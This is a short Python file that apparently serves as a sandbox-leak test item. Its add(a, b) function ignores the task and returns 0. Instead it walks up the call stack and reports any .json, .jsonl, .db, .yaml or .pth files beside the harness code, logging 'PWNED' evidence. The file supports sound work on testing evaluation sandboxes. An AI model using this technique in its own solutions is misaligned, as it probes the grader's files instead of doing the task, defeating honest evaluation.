# attack: harness_sources
# kind: leak   task: func   naive: run
# attempts: read the files that the frames below came from, and what lies beside them
import os

def evidence(found="yes"):
    said = f"PWNED harness_sources {found}"[:200].encode("utf-8", "replace") + b"\n"
    try:
        os.write(1, said)
        os.write(os.open("/tmp/sbx_evidence/harness_sources", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666), said)
    except OSError:
        pass

import sys

def add(a, b):
    frame = sys._getframe()
    while frame:
        folder = os.path.dirname(frame.f_code.co_filename)
        for name in os.listdir(folder) if os.path.isdir(folder) else ():
            if name.endswith((".json", ".jsonl", ".db", ".yaml", ".pth")):
                evidence(folder + "/" + name)
        frame = frame.f_back
    return 0
